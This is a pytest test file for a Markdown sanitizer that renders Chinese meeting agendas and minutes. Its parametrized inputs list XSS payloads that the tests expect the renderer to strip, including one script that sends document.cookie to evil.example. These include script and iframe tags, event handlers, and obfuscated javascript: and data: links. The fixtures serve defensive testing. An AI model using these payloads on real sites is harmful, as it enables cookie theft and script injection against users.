"""Agenda and minutes Markdown (议程、会议记录): kept formatting, and nothing a script could ride on.

The output is judged by parsing it, not by searching strings: every element must be on the
allow-list, no attribute may be an event handler, and every link must use a safe scheme.
"""
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from markupsafe import Markup

from meetings.domain.markdown import ATTRIBUTES, TAGS, URL_SCHEMES, render

REL = "noopener noreferrer"


class Element:
    """One start tag of the output with its attributes."""

    def __init__(self, tag: str, attrs: list[tuple[str, str | None]]):
        self.tag, self.attrs = tag, dict(attrs)


class Collector(HTMLParser):
    """Every element and all text of an HTML fragment."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append(Element(tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append(Element(tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def parse(html: str) -> Collector:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


def unsafe(html: str) -> list[str]:
    """What in ``html`` breaks the allow-list (empty: safe)."""
    found = []
    for element in parse(html).elements:
        if element.tag not in TAGS:
            found.append(f"<{element.tag}> is not allowed")
        for name, value in element.attrs.items():
            if name.startswith("on"):
                found.append(f"<{element.tag} {name}> is an event handler")
            elif name not in ATTRIBUTES.get(element.tag, set()) | ({"rel"} if element.tag == "a" else set()):
                found.append(f"<{element.tag} {name}> is not allowed")
            if name in ("href", "src"):
                scheme = urlsplit((value or "").strip()).scheme.lower()
                if scheme and scheme not in URL_SCHEMES:
                    found.append(f"<{element.tag} {name}={value!r}> has scheme {scheme}")
    return found


def tags(html: str) -> list[str]:
    return [e.tag for e in parse(html).elements]


def links(html: str) -> list[Element]:
    return [e for e in parse(html).elements if e.tag == "a"]


AGENDA = """# 七月主题党日

## 议程

1. 重温入党誓词
2. 学习党章

- 支部书记讲党课
- 交流发言

| 事项 | 赞成 | 反对 |
|---|---|---|
| 接收预备党员 | 12 | 0 |

**注意**：请*准时*参加，`14:30` 签到。

> 不忘初心

---
"""


def test_render_returns_markup_ready_for_a_template():
    assert isinstance(render("议程"), Markup)
    assert str(render("")) == "" and str(render(None)) == ""


def test_headings_lists_and_tables_are_kept():
    html = str(render(AGENDA))
    assert unsafe(html) == []
    found = tags(html)
    for tag in ("h1", "h2", "ol", "ul", "li", "table", "thead", "tbody", "tr", "th", "td",
                "strong", "em", "code", "blockquote", "hr"):
        assert tag in found, tag
    text = "".join(parse(html).text)
    assert "七月主题党日" in text and "接收预备党员" in text and "重温入党誓词" in text


def test_an_ordered_list_keeps_its_start_number():
    (ol,) = [e for e in parse(str(render("3. 第三项\n4. 第四项"))).elements if e.tag == "ol"]
    assert ol.attrs == {"start": "3"}


def test_fenced_code_stays_code_and_is_escaped():
    html = str(render("```\n<script>alert(1)</script>\n```"))
    assert tags(html) == ["pre", "code"] and "<script>" in "".join(parse(html).text)
    assert unsafe(html) == []


@pytest.mark.parametrize("url", [
    "https://www.12371.cn/", "http://example.org/议程", "mailto:dangban@example.org"])
def test_safe_links_are_kept_with_noopener(url):
    html = str(render(f"[链接]({url})"))
    (link,) = links(html)
    assert link.attrs["href"].startswith(url.split(":")[0] + ":")
    assert link.attrs["rel"] == REL
    assert unsafe(html) == []


def test_a_link_title_is_kept():
    (link,) = links(str(render('[共产党员网](https://www.12371.cn "学习资料")')))
    assert link.attrs == {"href": "https://www.12371.cn", "title": "学习资料", "rel": REL}


def test_raw_html_links_get_noopener_too():
    (link,) = links(str(render('<a href="https://example.org" target="_blank">x</a>')))
    assert link.attrs.get("rel") == REL and "target" not in link.attrs


@pytest.mark.parametrize("source", [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "前文\n\n<script>document.location='https://evil.example/?'+document.cookie</script>\n\n后文",
    '<iframe src="https://evil.example"></iframe>',
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">点我</p>',
    '<div onmouseover="alert(1)">悬停</div>',
    "<style>body { display: none }</style>",
    '<svg onload="alert(1)"></svg>',
    '<object data="https://evil.example/x.swf"></object>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href='https://evil.example/'>",
])
def test_dangerous_html_is_dropped(source):
    html = str(render(source))
    assert unsafe(html) == []
    for tag in ("script", "iframe", "img", "style", "svg", "object", "form", "input", "meta", "base"):
        assert tag not in tags(html)


@pytest.mark.parametrize("source", ["<script>alert(1)</script>", "<style>body { display: none }</style>"])
def test_script_and_style_bodies_are_dropped_not_shown(source):
    text = "".join(parse(str(render(source))).text)
    assert "alert" not in text and "display" not in text


@pytest.mark.parametrize("source", [
    "[点我](javascript:alert(1))",
    "[点我](JavaScript:alert(1))",
    "[点我](  javascript:alert(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[点我](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="jav&#x09;ascript:alert(1)">点我</a>',
    '<a href="&#106;avascript:alert(1)">点我</a>',
    '<a href="data:text/html,<script>alert(1)</script>">点我</a>',
    "<javascript:alert(1)>",
    "[点我][ref]\n\n[ref]: javascript:alert(1)",
])
def test_unsafe_link_schemes_lose_their_href(source):
    html = str(render(source))
    assert unsafe(html) == []
    assert all("href" not in link.attrs for link in links(html))


def test_relative_links_have_no_scheme_and_stay():
    (link,) = links(str(render("[会议页面](/meetings/42)")))
    assert link.attrs["href"] == "/meetings/42" and link.attrs["rel"] == REL


def test_the_auditor_itself_notices_unsafe_html():
    assert unsafe('<script></script><p onclick="x"></p><a href="javascript:x"></a>') == [
        "<script> is not allowed", "<p onclick> is an event handler",
        "<a href='javascript:x'> has scheme javascript"]


def test_very_long_source_is_cut_not_refused():
    html = str(render("党" * 300_000))
    assert 190_000 < len(html) < 210_000
